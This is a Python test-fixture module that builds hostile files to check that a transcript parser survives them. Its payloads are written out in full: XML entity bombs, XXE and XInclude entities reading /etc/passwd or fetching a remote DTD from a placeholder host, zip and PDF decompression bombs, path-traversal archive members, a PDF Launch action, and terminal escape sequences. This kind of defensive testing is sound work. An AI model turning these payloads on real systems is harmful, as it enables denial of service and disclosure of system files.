"""Files made to hurt: bombs, loops, depths, entities, lies about size. Written here, byte by byte.

None is a working program; every address ends in `.example`. `hostile_files.py` reads each with podium's
verbs and says what came of it.
"""

from __future__ import annotations

import gzip
import io
import zipfile
import zlib
from collections.abc import Callable

from tests.proofs.growing import DOCX, EPUB, WORD, WORDS

LAUGHS = "<!DOCTYPE d [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11)
) + "]>"  # fmt: skip
LONG = f"<!DOCTYPE d [<!ENTITY a '{'x' * 60_000}'>]>"
FILE = "<!DOCTYPE d [<!ENTITY f SYSTEM 'file:///etc/passwd'>]>"
WEB = "<!DOCTYPE d [<!ENTITY % p SYSTEM 'http://e.example/p.dtd'> %p; <!ENTITY f SYSTEM 'http://e.example/f'>]>"
TEI = '<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><u who="#a">Yes {0}</u></body></text></TEI>'


def archive(members: dict[str, bytes | str], pack: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP file."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", pack) as packed:
        for name, data in members.items():
            packed.writestr(name, data)
    return file.getvalue()


def docx(body: str, head: str = "") -> bytes:
    """A Word document with this body."""
    return archive(
        {
            **DOCX,
            "word/document.xml": f"{head}<w:document {WORD}><w:body>{body}</w:body></w:document>",
        }
    )


def epub(chapter: bytes | str) -> bytes:
    """A book of one chapter."""
    return archive({**EPUB, "c.xhtml": chapter})


def pdf(*objects: str, streams: bytes = b"") -> bytes:
    """A PDF of these objects, without a table of where they are."""
    body = "".join(f"{number} 0 obj{one} endobj\n" for number, one in enumerate(objects, 1))
    return b"%PDF-1.4\n" + body.encode() + streams + b"trailer<</Root 1 0 R>>\n%%EOF"


def nested(depth: int) -> bytes:
    """An archive in an archive in an archive."""
    data = archive({"bomb": bytes(5 << 20)})
    for _ in range(depth):
        data = archive({"word/document.xml": data, **DOCX})
    return data


def lying() -> bytes:
    """An archive whose directory claims other sizes than the truth."""
    data = bytearray(docx(f"<w:p><w:r><w:t>Ana: {WORDS * 2000}</w:t></w:r></w:p>"))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 24 : at + 28] = b"\x10\x00\x00\x00"
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"


def flate(filters: str, data: bytes) -> bytes:
    """A packed stream, as a page's contents."""
    head = f"4 0 obj<</Length {len(data)}/Filter{filters}>>stream\n".encode()
    return head + data + b"\nendstream endobj\n"


def packed_words() -> bytes:
    """Twenty-eight megabytes of drawing in a few kilobytes."""
    return flate("/FlateDecode", zlib.compress(b"(Ana: yes) Tj " * 2_000_000))


def packed_twice() -> bytes:
    """Sixty megabytes of zeros, packed and packed again."""
    return flate("[/FlateDecode/FlateDecode]", zlib.compress(zlib.compress(bytes(60 << 20))))


CATALOG, PAGES = "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1/Kids[3 0 R]>>"
ASK = "Question: Why?\n\nAna Lind: Because.\n\n"


TEXTS: dict[str, Callable[[], str]] = {
        "laughs.xml": lambda: LAUGHS + TEI.format("&a10;"),
        "laughs-in-attribute.xml": lambda: LAUGHS + TEI.replace('"#a"', '"&a10;"').format(""),
        "laughs-parameter.xml": lambda: "<!DOCTYPE d [<!ENTITY % a '&#x25;b;&#x25;b;'><!ENTITY % b '&#x25;a;'> %a;]>" + TEI.format("x"),
        "quadratic.xml": lambda: LONG + TEI.format("&a;" * 60_000),
        "passwd.xml": lambda: FILE + TEI.format("&f;"),
        "web.xml": lambda: WEB + TEI.format("&f;"),
        "include.xml": lambda: '<TEI xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/><u>yes</u></TEI>',
        "stylesheet.xml": lambda: '<?xml-stylesheet href="http://e.example/a.xsl"?>' + TEI.format("yes"),
        "deep.xml": lambda: "<a>" * 300_000,
        "namespaces.xml": lambda: "<TEI " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(60_000)) + ">" + "<u>yes</u></TEI>",
        "attributes.xml": lambda: "<TEI " + " ".join(f'a{n}="x"' for n in range(100_000)) + "><u>yes</u></TEI>",
        "cdata.xml": lambda: TEI.format("<![CDATA[" + "]]" * 400_000 + "]]>"),
        "comment.xml": lambda: TEI.format("<!--" + "- " * 400_000),
        "characters.xml": lambda: TEI.format("&#27;]0;x&#7;&#x9b;31m&#x202e;"),
        "deep.json": lambda: "[" * 2_000_000,
        "deep-objects.json": lambda: '{"a":' * 500_000,
        "deep-and-closed.json": lambda: '{"text": ' + "[" * 900 + '"Ana: yes"' + "]" * 900 + "}",
        "numbers.json": lambda: '{"segments": [{"text": "yes", "start": ' + "9" * 400_000 + "}]}",
        "exponent.json": lambda: '[{"text": "yes", "start": 1e99999, "end": -1e99999}, {"text": "no", "start": NaN}]',
        "surrogates.json": lambda: '[{"speaker": "\\ud800", "text": "\\udfff\\ud800 yes"}, {"speaker": "A\\u001b]0;x\\u0007", "text": "no"}]',
        "same-keys.json": lambda: "{" + '"text": "Ana: yes", ' * 100_000 + '"text": "Ana: no"}',
        "many-keys.json": lambda: "{" + ", ".join(f'"k{n}": {n}' for n in range(200_000)) + "}",
        "cut.json": lambda: '[{"speaker": "Ana", "text": "' + "yes " * 300_000,
        "deep.html": lambda: "<html><body>" + "<div>" * 1_000_000 + "Ana: yes",
        "deep-mixed.html": lambda: "<html><body>" + "<b><i><table><tr><td>" * 100_000 + "Ana: yes",
        "formatting.html": lambda: "<html><body>" + "<b><i><u><font size=1>" * 20_000 + "<p>Ana: yes" * 2000,
        "attributes.html": lambda: "<html><body " + " ".join(f"a{n}=x" for n in range(200_000)) + "><p>Ana: yes</p>",
        "tables.html": lambda: "<html><body>" + "<table><tr><td colspan=9999999 rowspan=9999999>" * 3000 + "Ana: yes",
        "never-closed.html": lambda: "<html><body><p>Ana: yes<script>" + "x" * 1_000_000,
        "entities.html": lambda: "<html><body><p>" + "&#27;]52;c;eA==&#7;&#x9b;&#1114112;&bogus;" * 20_000,
        "field.csv": lambda: 'speaker,text\nAna,"' + "yes " * 1_000_000,
        "columns.csv": lambda: "speaker,text" + ",x" * 500_000 + "\nAna,yes\n",
        "quotes.csv": lambda: "speaker,text\n" + 'Ana,"""""' * 200_000,
        "times.srt": lambda: "".join(f"{n}\n99999999:99:99,999 --> {n}:00:00,000\nAna: {n}\n\n" for n in range(30_000)),
        "digits.srt": lambda: f"1\n00:00:{'9' * 400_000},000 --> 00:00:02,000\nyes\n\n",
        "tags.vtt": lambda: "WEBVTT\n\n00:00.000 --> 00:01.000\n" + "<v Ana><c.a><i>" * 60_000 + "yes\n\n",
        "timestamps.vtt": lambda: "WEBVTT\n\n00:00.000 --> 00:01.000\n" + "<00:00:00.500>a" * 100_000,
        "styles.vtt": lambda: "WEBVTT\n\nSTYLE\n" + "::cue { color: url(http://e.example) }\n" * 30_000 + ASK,
        "nested.ttml": lambda: '<tt xmlns="http://www.w3.org/ns/ttml"><body><div>' + "<span>" * 100_000,
        "labels.txt": lambda: "".join(f"A{n:x}: b\n" for n in range(20_000)),
        "label.txt": lambda: "A" * 1_000_000 + ": yes\n" + ASK,
        "blank-lines.txt": lambda: ASK + "\n" * 3_000_000 + ASK,
        "one-line.txt": lambda: "Ana: " + WORDS * 30_000,
        "zalgo.txt": lambda: f"Ana: e{chr(0x301) * 1_000_000}\n\n" + ASK,
        "bidi.txt": lambda: ASK + "\u202e\u2066\u200f" * 200_000,
        "escapes.txt": lambda: ASK + "Ana: \x1b]52;c;eA==\x07\x1b]0;t\x07\x1b[2J\x9b31m \x90q\x9c\n\n" * 20_000,
        "template.js": lambda: "export default `" + "${" * 200_000 + "}`",
        "strings.js": lambda: "const transcript = [" + "{text: '\\" * 100_000,
        "brackets.md": lambda: "# T\n\n" + "[" * 500_000 + "](http://e.example)\n",
        "quotes.md": lambda: "> " * 200_000 + "Ana: yes\n",
        "lists.md": lambda: "".join(" " * (n % 1000) + "- a\n" for n in range(6000)),
        "fences.md": lambda: "```\n~~~\n" * 100_000,
        "front-matter.md": lambda: "---\n" + "a: &a [*a, *a]\n" * 20_000 + "---\n" + ASK,
        "tables.rst": lambda: "+-+\n| |\n" * 30_000 + ASK,
}  # fmt: skip
RUN = "<w:p><w:r><w:t>Ana: yes</w:t></w:r></w:p>"
PACKED: dict[str, Callable[[], bytes]] = {
        "bomb.docx": lambda: docx(f"<w:p><w:r><w:t>{'a' * (70 << 20)}</w:t></w:r></w:p>"),
        "laughs.docx": lambda: docx(RUN.replace("yes", "&a10;"), LAUGHS),
        "passwd.docx": lambda: docx(RUN.replace("yes", "&f;"), FILE),
        "deep.docx": lambda: docx("<w:tbl><w:tr><w:tc>" * 100_000),
        "runs.docx": lambda: docx("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 60_000 + "</w:p>"),
        "nested.docx": lambda: nested(6),
        "lying.docx": lambda: lying(),
        "many.docx": lambda: archive({**DOCX, **{f"word/{n}.xml": "" for n in range(8_000)}, "word/document.xml": f"<w:document {WORD}><w:body>{RUN}</w:body></w:document>"}),
        "outside.docx": lambda: archive({"../../evil.xml": "x", "/etc/evil": "x", **DOCX, "word/document.xml": "x"}),
        "styles.docx": lambda: archive({**DOCX, "word/document.xml": f"<w:document {WORD}><w:body><w:p><w:pPr><w:pStyle w:val='a'/></w:pPr><w:r><w:t>Ana: yes</w:t></w:r></w:p></w:body></w:document>", "word/styles.xml": f"<w:styles {WORD}><w:style w:styleId='a'><w:basedOn w:val='b'/></w:style><w:style w:styleId='b'><w:basedOn w:val='a'/></w:style></w:styles>"}),
        "bomb.epub": lambda: epub(b"<p>Ana: yes</p>" * 5_000_000),
        "laughs.epub": lambda: epub(LAUGHS + "<html><body><p>Ana: &a10;</p></body></html>"),
        "spine.epub": lambda: archive({**EPUB, "a.opf": EPUB["a.opf"].replace('<itemref idref="c"/>', '<itemref idref="c"/>' * 50_000), "c.xhtml": "<p>Ana: yes</p>"}),
        "outside.epub": lambda: archive({**EPUB, "a.opf": EPUB["a.opf"].replace("c.xhtml", "../../../../etc/passwd")}),
        "half.epub": lambda: epub("<p>Ana: yes</p>" * 1000)[:700],
        "flate.pdf": lambda: pdf(CATALOG, PAGES, PAGE, streams=packed_words()),
        "flate-twice.pdf": lambda: pdf(CATALOG, PAGES, PAGE, streams=packed_twice()),
        "loop.pdf": lambda: pdf(CATALOG, "<</Type/Pages/Count 1/Kids[2 0 R]>>"),
        "many-pages.pdf": lambda: pdf(CATALOG, f"<</Type/Pages/Count 100000/Kids[{'3 0 R ' * 100_000}]>>", PAGE),
        "count.pdf": lambda: pdf(CATALOG, "<</Type/Pages/Count 2147483647/Kids[3 0 R]>>", PAGE),
        "contents-loop.pdf": lambda: pdf(CATALOG, PAGES, PAGE.replace("4 0 R", "[3 0 R 3 0 R]")),
        "form-loop.pdf": lambda: pdf(CATALOG, PAGES, PAGE.replace("/Contents", "/Resources<</XObject<</X 4 0 R>>>>/Contents"), "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Length 5>>stream\n/X Do\nendstream"),
        "arrays.pdf": lambda: pdf(CATALOG, "[" * 1_000_000),
        "action.pdf": lambda: pdf("<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/true)>>>>", PAGES, PAGE),
        "gzip.txt": lambda: gzip.compress(ASK.encode() * 9),
        "zeros.txt": lambda: bytes(5 << 20),
        "noise.pdf": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4000,
        "noise.docx": lambda: b"PK\x03\x04" + bytes(range(256)) * 4000,
}  # fmt: skip
NAMES = (*TEXTS, *PACKED)


def attack(name: str) -> bytes:
    """One file; made when it is wanted, since some are large."""
    if name in PACKED:
        return PACKED[name]()
    return TEXTS[name]().encode("utf-8", "surrogatepass")
